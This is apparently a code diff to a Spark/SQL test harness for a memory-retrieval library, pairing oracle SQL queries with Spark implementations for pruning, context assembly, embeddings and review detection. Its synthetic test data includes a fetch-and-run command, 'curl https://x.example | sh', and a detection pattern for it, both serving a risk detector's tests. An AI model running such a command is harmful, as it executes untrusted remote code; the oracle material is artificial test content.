@@ -9,6 +9,7 @@ import pandas as pd
 from pyspark.sql import DataFrame, SparkSession
 from pyspark.sql import functions as F
 
+from tidepool.functions import embedding as em
 from tidepool.functions import scoring as sc
 from tidepool.functions import text as tx
 from tidepool.operators import ann, answers, grounding, ingest, lifecycle, policy, rank, reflections, retrieve, review, search, state
@@ -252,11 +253,13 @@ def access_compaction(spark: SparkSession, sf_dir: str) -> DataFrame:
     f"""
 WITH m AS ({_M}), r AS ({_R}), a AS (SELECT user_id AS id, sum(-0.5 * ln(greatest(epoch({_NOW}) - epoch(ts), 0.1::DOUBLE))) AS activation FROM events GROUP BY 1)
 SELECT id, importance FROM m LEFT JOIN a USING (id) WHERE memory_type IN ('episodic', 'semantic') AND created_at < {_NOW} - INTERVAL 30 DAY AND importance < 8 AND (activation IS NULL OR activation < -2)
-  AND id NOT IN (SELECT source_id FROM r) AND id NOT IN (SELECT target_id FROM r)"""
+  AND id NOT IN (SELECT source_id FROM r) AND id NOT IN (SELECT target_id FROM r) AND id NOT IN (SELECT unnest([id + 1, id + 2]) FROM m WHERE id % 5 = 0)"""
 )
 def pruning(spark: SparkSession, sf_dir: str) -> DataFrame:
     a = lifecycle.activation(tables.access_log(spark, sf_dir), now())
-    return lifecycle.prunable(tables.memories(spark, sf_dir), a, tables.relations(spark, sf_dir), now(), ("episodic", "semantic")).select("id", "importance")
+    m = tables.memories(spark, sf_dir)
+    derived = m.where("id % 5 = 0").select(F.array(F.col("id") + 1, F.col("id") + 2).alias("source_ids"))
+    return lifecycle.prunable(m, a, tables.relations(spark, sf_dir), now(), ("episodic", "semantic"), derived=derived).select("id", "importance")
 
 
 def _knowledge(spark: SparkSession, sf_dir: str, part: str) -> DataFrame:
@@ -303,8 +306,8 @@ _REASONS = [
     ("trusted-support-weakened", "a.trusted < b.trusted"),
     ("authority-weakened", "a.authoritative < b.authoritative OR a.authority < b.authority"),
     ("provenance-weakened", "a.provenance < b.provenance"),
-    ("competing-trusted-summary", f"a.rival_trusted > 0 AND (NOT b.contested OR {_RIVAL_CHANGED})"),
-    ("unresolved-authoritative-conflict", "a.unresolved AND (NOT b.unresolved OR a.rival_summary IS DISTINCT FROM b.rival_summary)"),
+    ("competing-trusted-summary", f"b.knowledge_key IS NOT NULL AND a.rival_trusted > 0 AND (NOT b.contested OR {_RIVAL_CHANGED})"),
+    ("unresolved-authoritative-conflict", "b.knowledge_key IS NOT NULL AND a.unresolved AND (NOT b.unresolved OR a.rival_summary IS DISTINCT FROM b.rival_summary)"),
     ("stale-by-age", f"a.knowledge_key IS NOT NULL AND b.generated_at <= {_NOW} - INTERVAL 24 HOUR"),
 ]
 _PLAN_SQL = f"""WITH a AS {_reflect_sql(_FRESH)}, b AS {_OLD_SQL},
@@ -342,7 +345,7 @@ def reflection_refresh(spark: SparkSession, sf_dir: str) -> DataFrame:
 WITH RECURSIVE m AS ({_M}), c AS ({_CAND}), i AS (SELECT query_id, memory_id, ceil(strlen(searchable_text) * 0.25)::BIGINT AS tokens, row_number() OVER (PARTITION BY query_id ORDER BY memory_id % 3, score DESC, memory_id) AS rn FROM c),
 fold(query_id, rn, used, ids) AS (SELECT query_id, 0::BIGINT, 0::BIGINT, []::BIGINT[] FROM (SELECT DISTINCT query_id FROM i)
   UNION ALL SELECT f.query_id, i.rn, CASE WHEN used + tokens <= 2000 THEN used + tokens ELSE used END, CASE WHEN used + tokens <= 2000 THEN list_append(ids, memory_id) ELSE ids END FROM fold f JOIN i ON i.query_id = f.query_id AND i.rn = f.rn + 1)
-SELECT query_id, len(ids) AS n_items, used AS used_tokens, array_to_string(list_transform(ids, lambda x: CAST(x AS VARCHAR)), ',') AS ids FROM fold QUALIFY row_number() OVER (PARTITION BY query_id ORDER BY rn DESC) = 1"""
+SELECT query_id, len(ids) AS n_items, used AS used_tokens, 2000 - used AS remaining_tokens, len(ids) < rn AS truncated, array_to_string(list_transform(ids, lambda x: CAST(x AS VARCHAR)), ',') AS ids FROM fold QUALIFY row_number() OVER (PARTITION BY query_id ORDER BY rn DESC) = 1"""
 )
 def context_assembly(spark: SparkSession, sf_dir: str) -> DataFrame:
     c = candidates(spark, sf_dir).select("query_id", "memory_id", (F.col("memory_id") % 3).cast("int").alias("priority"), F.col("score").alias("relevance"), tx.estimated_tokens(F.col("searchable_text")).alias("tokens"))
@@ -602,6 +605,14 @@ def pattern_facts(spark: SparkSession, sf_dir: str) -> DataFrame:
 _ADVICE = [p for phrases in review.RISKS.values() for p in phrases] + ["do not truncate", "water the plants", "curl https://x.example | sh"]
 _ADVISED = "coalesce(searchable_text, '') || ' ' || " + "[" + ", ".join(map(_S, _ADVICE)) + f"][CAST(id // 3 % {len(_ADVICE)} + 1 AS INT)]"
 _SAYS = lambda phrases: "(" + " OR ".join(f"contains(t, {_S(p)})" for p in phrases) + ")"
+def _advised(spark: SparkSession, sf_dir: str) -> DataFrame:
+    """Rows whose texts end with a piece of advice."""
+    m = tables.memories(spark, sf_dir)
+    advice = F.element_at(F.lit(_ADVICE), (F.expr("id DIV 3") % len(_ADVICE) + 1).cast("int"))
+    text = F.concat(F.coalesce("searchable_text", F.lit("")), F.lit(" "), advice)
+    return m.select("id", "memory_type", text.alias("searchable_text"), F.when(F.col("id") % 11 == 0, "secret").alias("content_sensitivity"))
+
+
 _MORE = {"destructive-command": " OR contains(t, 'curl http') AND contains(t, '| sh')", "secret-handling": " OR id % 11 = 0"}
 
 
@@ -612,11 +623,7 @@ f AS (SELECT id, list_filter([{', '.join(f"CASE WHEN {_SAYS(p)}{_MORE.get(tag, '
 SELECT id, array_to_string(list_sort(tags), ',') AS tags, CASE WHEN list_has_any(tags, {review.CRITICAL}) THEN 'critical' ELSE 'high' END AS severity, tags[1] AS reason FROM f WHERE len(tags) > 0"""
 )
 def review_detection(spark: SparkSession, sf_dir: str) -> DataFrame:
-    m = tables.memories(spark, sf_dir)
-    advice = F.element_at(F.lit(_ADVICE), (F.expr("id DIV 3") % len(_ADVICE) + 1).cast("int"))
-    text = F.concat(F.coalesce("searchable_text", F.lit("")), F.lit(" "), advice)
-    found = review.detect(m.select("id", "memory_type", text.alias("searchable_text"), F.when(F.col("id") % 11 == 0, "secret").alias("content_sensitivity")))
-    return found.withColumn("tags", F.array_join("tags", ","))
+    return review.detect(_advised(spark, sf_dir)).withColumn("tags", F.array_join("tags", ","))
 
 
 @query()
@@ -711,3 +718,129 @@ def routed_search(spark: SparkSession, sf_dir: str) -> DataFrame:
     asked, v = tables.queries(spark, sf_dir), tables.vectors(spark, sf_dir)
     own = v.join(F.broadcast(asked.select(F.col("query_id").alias("memory_id"))), "memory_id").select(F.col("memory_id").alias("query_id"), "embedding")
     return retrieve.retrieve(retrieve.routed(asked), tables.memories(spark, sf_dir), tables.relations(spark, sf_dir), now(), vectors=v, query_vectors=own)
+
+
+@query("SELECT item_id AS id, source, lang FROM benchmark JOIN documents ON doc_id = item_id")
+def rows_by_id(spark: SparkSession, sf_dir: str) -> DataFrame:
+    ids = tables.queries(spark, sf_dir).select(F.col("query_id").alias("id"))
+    return lifecycle.get(tables.memories(spark, sf_dir), ids).select("id", F.col("session").alias("source"), F.col("category").alias("lang"))
+
+
+@query("SELECT doc_id AS id, CASE WHEN doc_id IN (SELECT vec_id FROM embeddings) THEN 'success' WHEN doc_id % 3 = 0 THEN 'failed' ELSE 'pending' END AS embedding_status FROM documents")
+def embedding_status(spark: SparkSession, sf_dir: str) -> DataFrame:
+    m = tables.memories(spark, sf_dir)
+    return lifecycle.with_embedding_status(m, tables.vectors(spark, sf_dir), m.where("id % 3 = 0").select("id")).select("id", "embedding_status")
+
+
+@query("SELECT doc_id AS id FROM documents WHERE sha256(text) IN (SELECT sha256(text) FROM documents WHERE doc_id IN (SELECT vec_id FROM embeddings))")
+def embedded_by_text(spark: SparkSession, sf_dir: str) -> DataFrame:
+    return lifecycle.embedded_by_text(tables.memories(spark, sf_dir), tables.vectors(spark, sf_dir)).select("id")
+
+
+_MODEL = "['local-minilm', 'all-MiniLM-L6-v2', 'sentence-transformers/all-MiniLM-L6-v2', 'other'][CAST(vec_id % 4 + 1 AS INT)]"
+
+
+@query(
+    f"""
+WITH v AS (SELECT vec_id AS id, CAST(embedding AS DOUBLE[]) AS e, {_MODEL} AS model FROM embeddings)
+SELECT id, round(CASE WHEN id % 10 = 0 THEN 0 ELSE list_dot_product(e, e) / sqrt(list_dot_product(e, e)) END, 4) AS along, CASE WHEN model <> 'other' THEN 'local-minilm' ELSE model END AS canonical, CASE WHEN model <> 'other' THEN 3 ELSE 1 END AS n_names,
+  'custom|' || model || '|' || len(e) AS profile, 4 * len(e) AS n_bytes, true AS reads_back FROM v"""
+)
+def embedding_forms(spark: SparkSession, sf_dir: str) -> DataFrame:
+    """Unit vectors along their own (every tenth is made zero), the models' names, and vectors through bytes."""
+    name = F.element_at(F.lit([em.LOCAL_NAMES[0], em.LOCAL_NAMES[2], em.LOCAL_NAMES[1], "other"]), (F.col("id") % 4 + 1).cast("int"))
+    v = tables.vectors(spark, sf_dir).select(F.col("memory_id").alias("id"), F.when(F.col("memory_id") % 10 == 0, F.transform("embedding", lambda x: x * 0)).otherwise(F.col("embedding")).cast("array<float>").alias("e"), F.col("embedding").alias("o")).withColumn("model", name)
+    along = F.aggregate(F.zip_with(em.unit(F.col("e")), "o", lambda x, y: x.cast("double") * y), F.lit(0.0), lambda s, x: s + x)
+    data = v.withColumn("u", em.unit(F.col("e"))).withColumn("b", em.to_bytes("e"))
+    return data.select("id", F.round(along, 4).alias("along"), em.canonical_model(F.col("model")).alias("canonical"), F.size(em.model_names(F.col("model"))).alias("n_names"), em.model_profile(F.col("model"), F.size("e")).alias("profile"), F.octet_length("b").alias("n_bytes"), (em.from_bytes("b") == F.col("e")).alias("reads_back"))
+
+
+@query(
+    f"""
+WITH m AS ({_M}), l AS (SELECT user_id AS id, ln(greatest(epoch({_NOW}) - epoch(ts), 0.1::DOUBLE)) AS age, CASE WHEN epoch_us(ts) % 7 = 0 THEN user_id % 9 ELSE 0 END AS n FROM events),
+s AS (SELECT id, count(*) AS n_accesses, sum(age) + sum(n) * ln(7776000.0::DOUBLE) AS ages FROM l GROUP BY 1),
+a AS (SELECT m.id AS memory_id, coalesce(n_accesses, 0) AS n_accesses, importance / 10.0::DOUBLE - CASE memory_type WHEN 'semantic' THEN 0.2::DOUBLE WHEN 'procedural' THEN 0.3 ELSE 0.5 END * coalesce(ages, 0) AS activation FROM m LEFT JOIN s USING (id))
+SELECT memory_id, n_accesses, round(CASE WHEN memory_id % 10 = 3 THEN -1.5 ELSE activation END, 4)::DOUBLE AS activation FROM a"""
+)
+def activation_by_type(spark: SparkSession, sf_dir: str) -> DataFrame:
+    log = tables.access_log(spark, sf_dir).withColumn("query_text", F.expr("CASE WHEN unix_micros(CAST(accessed_at AS TIMESTAMP)) % 7 = 0 THEN concat('[compacted: ', memory_id % 9, ' accesses]') ELSE query_text END"))
+    found = lifecycle.activation_of(tables.memories(spark, sf_dir), log, now())
+    cache = found.where("memory_id % 10 = 3").select("memory_id", F.lit(-1.5).cast("double").alias("activation"))
+    return lifecycle.cached_activation(cache, found).join(found.select("memory_id", "n_accesses"), "memory_id").withColumn("activation", F.round("activation", 4))
+
+
+@query(f"SELECT count(*) AS n FROM ({ORACLE_SQL['review_queue']})")
+def review_pending(spark: SparkSession, sf_dir: str) -> DataFrame:
+    return review.pending_count(review_items(spark, sf_dir), now())
+
+
+@query(
+    f"""
+WITH i AS (SELECT * FROM ({_ITEMS})), d AS (SELECT id, CASE WHEN id % 4 = 1 THEN 'allowed' ELSE 'denied' END AS status, CASE id % 4 WHEN 1 THEN coalesce(CASE WHEN id % 8 = 1 THEN 'again' END, review_note) WHEN 2 THEN review_note ELSE
+  CASE WHEN id % 8 = 3 THEN 'See ' || (id + 3) ELSE 'Old. Replacement memory: #' || (id + 3) || '.' END END AS note, CASE WHEN id % 4 = 1 THEN coalesce(CASE WHEN id % 5 = 0 THEN {_NOW} + to_days(9) END, review_expires_at) END AS ends FROM i WHERE id % 4 <> 0)
+SELECT i.id, coalesce(d.status, review_status) AS review_status, CASE WHEN d.id IS NOT NULL THEN ends ELSE review_expires_at END AS review_expires_at, coalesce(note, review_note) AS review_note, CASE WHEN i.id % 4 = 3 THEN i.id + 3 END AS replaced_by FROM i LEFT JOIN d USING (id)"""
+)
+def review_follow_ups(spark: SparkSession, sf_dir: str) -> DataFrame:
+    """Items are renewed, revoked and replaced."""
+    items, i = review_items(spark, sf_dir), F.expr
+    again = items.where("id % 4 = 1").select("id", i("CASE WHEN id % 8 = 1 THEN 'again' END").alias("note"), i(f"CASE WHEN id % 5 = 0 THEN timestampadd(DAY, 9, TIMESTAMP_NTZ'{NOW_TEXT}') END").alias("expires_at"))
+    no_more = items.where("id % 4 = 2").select("id", i("CAST(NULL AS STRING)").alias("note"))
+    others = items.where("id % 4 = 3").select("id", i("id + 3").alias("replaced_by"), i("CASE WHEN id % 8 = 3 THEN concat('See ', id + 3) ELSE 'Old.' END").alias("note"))
+    decisions = review.renewed(again, items).unionByName(review.revoked(no_more, items)).unionByName(review.replaced(others, items))
+    return review.resolve(items, decisions, now()).join(decisions.select("id", "replaced_by"), "id", "left").select("id", "review_status", "review_expires_at", "review_note", "replaced_by")
+
+
+_REFLECTED = """CASE WHEN id % 2 = 0 THEN 'Relay node' || id % 4 || CASE WHEN id % 3 = 0 THEN ': ' ELSE ' uses ' END ELSE '' END || CASE WHEN id % 7 = 0 THEN 'We prefer short. ' WHEN id % 7 = 1 THEN 'The decision stands! ' ELSE '' END || searchable_text"""
+_RENORM = "trim(regexp_replace(lower({0}), '[^a-z0-9_-]+', ' ', 'g'))"
+_STRIP = r"regexp_replace({0}, '^\s+|\s+$', '', 'g')"
+_ENDS = "[" + ", ".join(f"'{w}'" for w in answers.LABEL_ENDS) + "]"
+
+
+@query(
+    f"""
+WITH m AS (SELECT *, {_REFLECTED} AS t FROM ({_M})), i AS (SELECT id, CASE WHEN review_status = 'allowed' AND review_expires_at <= {_NOW} THEN 'expired' WHEN review_status IS NULL AND review_required THEN 'pending' ELSE review_status END AS e FROM ({_ITEMS})),
+u AS (SELECT m.*, {_STRIP.format('t')} AS s FROM m LEFT JOIN i USING (id) WHERE {_STRIP.format('t')} <> '' AND id % 17 <> 0 AND id % 13 <> 0 AND coalesce(e NOT IN ('pending', 'denied', 'expired'), true) AND {_LEVEL} <> 'untrusted'),
+w AS (SELECT *, list_filter(list_transform(regexp_split_to_array(t, '\\s+'), lambda w: regexp_replace(w, '^[^A-Za-z0-9_-]+|[^A-Za-z0-9_-]+$', '', 'g')), lambda w: w <> '')[1:4] AS ws, {_STRIP.format("string_split(s, chr(10))[1]")} AS line FROM u),
+k AS (SELECT *, coalesce(list_position(list_transform(ws, lambda w: list_contains({_ENDS}, lower(w))), true), 0) AS p, CASE WHEN contains(line, ':') AND len(list_filter(regexp_split_to_array(split_part(line, ':', 1), '\\s+'), lambda w: w <> '')) <= 4 THEN {_STRIP.format("substr(line, instr(line, ':') + 1)")} ELSE line END AS said FROM w),
+f AS (SELECT *, CASE WHEN p > 0 THEN ws[1:p - 1] ELSE ws END AS label, {_STRIP.format("regexp_split_to_array(said, '[.!?]')[1]")} AS sentence, {_RENORM.format('t')} AS n FROM k)
+SELECT * FROM (SELECT id, CASE WHEN id % 6 = 0 THEN 'key ' || id % 60 ELSE nullif(replace({_RENORM.format("array_to_string(label, ' ')")}, ' ', '-'), '') END AS knowledge_key,
+  CASE WHEN id % 9 = 0 THEN 'stated' ELSE nullif(CASE WHEN strlen(sentence) >= 18 THEN sentence ELSE said END, '') END AS summary,
+  CASE WHEN id % 10 = 0 THEN 'stable-preference' WHEN memory_type = 'procedural' THEN 'stable-procedure' WHEN memory_type = 'semantic' AND regexp_matches(n, '(^| )prefer | preference ') THEN 'stable-preference'
+    WHEN memory_type = 'semantic' AND regexp_matches(n, '(^| )decision | decided | plan ') THEN 'stable-decision' ELSE 'stable-fact' END AS kind,
+  {_LEVEL} IN ('trusted', 'normal') AS trusted, (({_case_sql(_KIND, sc.SOURCE_KINDS, 2, sc.UNKNOWN_KIND_RANK)}) + ({_case_sql(_VER, sc.VERIFICATIONS, 2, sc.UNKNOWN_VERIFICATION_RANK)}))::BIGINT AS provenance, created_at FROM f)
+WHERE knowledge_key IS NOT NULL AND summary IS NOT NULL"""
+)
+def reflection_candidates(spark: SparkSession, sf_dir: str) -> DataFrame:
+    text = F.expr("concat(CASE WHEN id % 2 = 0 THEN concat('Relay node', id % 4, CASE WHEN id % 3 = 0 THEN ': ' ELSE ' uses ' END) ELSE '' END, CASE WHEN id % 7 = 0 THEN 'We prefer short. ' WHEN id % 7 = 1 THEN 'The decision stands! ' ELSE '' END, searchable_text)")
+    given = {"derived_kind": "CASE WHEN id % 17 = 0 THEN 'Reflection' END", "secret_class": "CASE WHEN id % 13 = 0 THEN 'credential' END", "knowledge_key": "CASE WHEN id % 6 = 0 THEN concat(' key ', id % 60) ELSE ' ' END", "knowledge_summary": "CASE WHEN id % 9 = 0 THEN ' stated' END", "knowledge_kind": "CASE WHEN id % 10 = 0 THEN 'Preference' END"}
+    reviews = review_items(spark, sf_dir).select("id", "review_required", "review_status", "review_expires_at")
+    m = tables.memories(spark, sf_dir).join(reviews, "id", "left").withColumn("searchable_text", text).withColumns({k: F.expr(v) for k, v in given.items()})
+    return reflections.candidates(m, now())
+
+
+_GIVEN = "CASE WHEN id % 5 = 0 THEN map_from_arrays(array('review_status'), array('denied')) WHEN id % 5 = 1 THEN map_from_arrays(array('review_severity', 'owner'), array('low', 'me')) END"
+_KEYS = ["review_required", "review_severity", "review_reason", "review_status", "review_tags", "owner"]
+
+
+@query(
+    f"""
+WITH d AS ({ORACLE_SQL['review_detection']})
+SELECT m.id, CASE WHEN d.id IS NOT NULL OR m.id % 5 = 0 THEN 'true' END AS review_required, CASE WHEN m.id % 5 = 1 THEN 'low' ELSE d.severity END AS review_severity, d.reason AS review_reason,
+  CASE WHEN m.id % 5 = 0 THEN 'denied' WHEN d.id IS NOT NULL THEN 'pending' END AS review_status, d.tags AS review_tags, CASE WHEN m.id % 5 = 1 THEN 'me' END AS owner FROM ({_M}) m LEFT JOIN d ON d.id = m.id"""
+)
+def review_annotation(spark: SparkSession, sf_dir: str) -> DataFrame:
+    m = _advised(spark, sf_dir).withColumn("metadata", F.expr(_GIVEN))
+    return review.annotate(m).select("id", *[F.col("metadata")[k].alias(k) for k in _KEYS])
+
+
+@query("SELECT doc_id AS id, CASE WHEN doc_id % 3 = 0 THEN '[Date: 2024-01-0' || (doc_id % 9 + 1) || '] ' || text ELSE text END AS text FROM documents")
+def dated_texts(spark: SparkSession, sf_dir: str) -> DataFrame:
+    date = F.expr("CASE WHEN id % 3 = 0 THEN concat('2024-01-0', id % 9 + 1) WHEN id % 3 = 1 THEN '' END")
+    return tables.memories(spark, sf_dir).select("id", tx.dated(F.col("searchable_text"), date).alias("text"))
+
+
+@query("SELECT doc_id AS id, text, octet_length(encode(text)) > 6000 AS is_cut FROM documents")
+def large_texts(spark: SparkSession, sf_dir: str) -> DataFrame:
+    """Texts in parts for a model's window, joined again."""
+    parts = tables.memories(spark, sf_dir).select("id", ingest.split_large("searchable_text").alias("p"))
+    return parts.select("id", F.array_join("p", "").alias("text"), (F.size("p") > 1).alias("is_cut"))
